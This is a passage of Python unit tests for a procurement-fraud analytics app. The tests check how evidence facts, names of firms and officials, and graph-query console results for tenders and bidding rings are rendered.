    """A pair's threshold cell showed JSON cut off ({"q_strong"…), and tender risk's noisy-or weight 0.8 was said to be
    "the most points this component can add" beside a contribution of 0.86 (an app review)."""
    evidence = {"components": {
        "speed": {"value": 7, "contribution": 0.0, "threshold": {"q_strong": 0.01, "lift_floor": 1.5}},
        "ring": {"value": 0.79, "weight": 0.8, "contribution": 0.86},
        "price": {"value": 0.9, "weight": 35.0, "contribution": 31.5}}}
    facts = app_queries.evidence_facts(evidence).set_index("fact")
    assert facts.loc["components.speed", "threshold"] == "q strong 0.01; lift floor 1.5"
    assert facts.loc["components.ring.weight", "meaning"].startswith("how far a ring scoring 100 raises the tender")
    assert facts.loc["components.price.weight", "meaning"] == "the most points this component can add"
    # near-miss: a threshold holding lists stays JSON, whole
    nested = app_queries.evidence_facts({"x": {"value": 1, "threshold": {"bands": [1, 2]}}}).set_index("fact")
    assert nested.loc["x", "threshold"] == '{"bands": [1, 2]}'


def test_names_of_the_firms_persons_and_officials_an_evidence_quotes(market_db):
    """A ring's shared owner was quoted as P673322 in its facts and case report: the store's names read them."""
    evidence = json.dumps({"shared_identifiers": [{"kind": "person", "value": "P1", "members": ["F1", "F2"]}],
                           "official": "O1", "tenders": ["T1"], "note": "x" * 101})
    ids = app_queries.evidence_ids(evidence)
    assert set(ids) == {"person", "P1", "F1", "F2", "O1", "T1"}  # short strings only
    names = app_queries.names_of(market_db, ids)
    assert names == {"P1": "Pat Owner", "F1": "Alpha Build", "F2": "Beta Build", "O1": "Olga Inspector"}  # not T1
    assert app_queries.names_of(market_db, []) == {}
    assert app_queries.case_file(market_db, "RING-1")["names"].keys() <= set(app_queries.evidence_ids(
        app_queries.finding(market_db, "RING-1")["evidence"]))


def test_console_cells_name_a_node_by_its_key_and_spell_out_a_path(market_db):
    """A returned node read "(Firm Alpha Build)" with no id, a path "path of 2 relationships" (an app review)."""
    result = app_queries.run_console(
        market_db, "MATCH p = (f:Firm {id: 'F1'})-[:SUBMITTED]->(:Bid)-[:FOR]->(t:Tender {id: 'T1'}) "
                   "RETURN f, p, t.id AS tender")
    row = result.table.iloc[0]
    assert row["f"] == "(Firm F1 Alpha Build)"
    assert row["p"] == "(Firm F1 Alpha Build)-[:SUBMITTED]->(Bid B1-F1)-[:FOR]->(Tender T1 Road resurfacing lot 1)"
    # walked against its arrows, a step says so
    back = app_queries.run_console(market_db, "MATCH p = (:Tender {id: 'T1'})<-[:FOR]-(:Bid)<-[:SUBMITTED]-"
                                              "(:Firm {id: 'F1'}) RETURN p").table.iloc[0]["p"]
    assert back.startswith("(Tender T1 ") and "<-[:FOR]-(Bid " in back and back.endswith("<-[:SUBMITTED]-(Firm F1 Alpha Build)")
